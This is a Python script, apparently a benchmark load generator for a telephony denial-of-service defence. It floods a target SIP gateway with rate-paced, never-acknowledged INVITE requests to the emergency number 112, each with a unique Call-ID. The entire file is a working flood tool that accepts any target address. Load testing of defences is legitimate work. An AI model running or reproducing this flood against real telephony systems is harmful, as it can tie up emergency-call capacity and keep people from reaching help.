"""A TDoS flood for bench/tdos.py: INVITEs to 112 from one address, each with its own
Call-ID and branch, paced at a rate, never ACKed (answers are read and thrown away).

    python3 bench/flood.py TARGET_IP:PORT FROM_IP RATE SECONDS

Bounded by RATE * SECONDS messages; prints how many were sent. Messages are made from
one template with a counter (about 2 µs each), sent in batches every millisecond."""
import socket, sys, time


def main():
    target, src, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    host, port = target.rsplit(":", 1)
    gw = (host, int(port))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.bind((src, 0))
    s.setblocking(False)
    lport = s.getsockname()[1]
    sdp = b"v=0\r\no=f 1 1 IN IP4 192.0.2.1\r\ns=-\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\nm=audio 4000 RTP/AVP 0\r\n"
    head = (f"INVITE sip:112@{target} SIP/2.0\r\nVia: SIP/2.0/UDP {src}:{lport};branch=z9hG4bKf%d\r\n"
            f"Max-Forwards: 70\r\nFrom: <sip:0899%d@192.0.2.1>;tag=f%d\r\nTo: <sip:112@{target}>\r\n"
            f"Call-ID: flood-{lport}-%d\r\nCSeq: 1 INVITE\r\nContact: <sip:f@{src}:{lport}>\r\n"
            f"Content-Type: application/sdp\r\nContent-Length: {len(sdp)}\r\n\r\n").encode()
    total = int(rate * seconds)
    sent, dropped = 0, 0
    start = time.monotonic()
    while sent + dropped < total:
        due = int((time.monotonic() - start) * rate) + 1
        while sent + dropped < min(due, total):
            i = sent + dropped
            try:
                s.sendto(head % (i, i, i, i) + sdp, gw)
                sent += 1
            except BlockingIOError:
                dropped += 1
        try:
            while True:
                s.recv(65535)
        except BlockingIOError:
            pass
        time.sleep(0.001)
    print(f"sent {sent} INVITEs in {time.monotonic() - start:.1f} s ({dropped} not sent: socket full)")


if __name__ == "__main__":
    main()
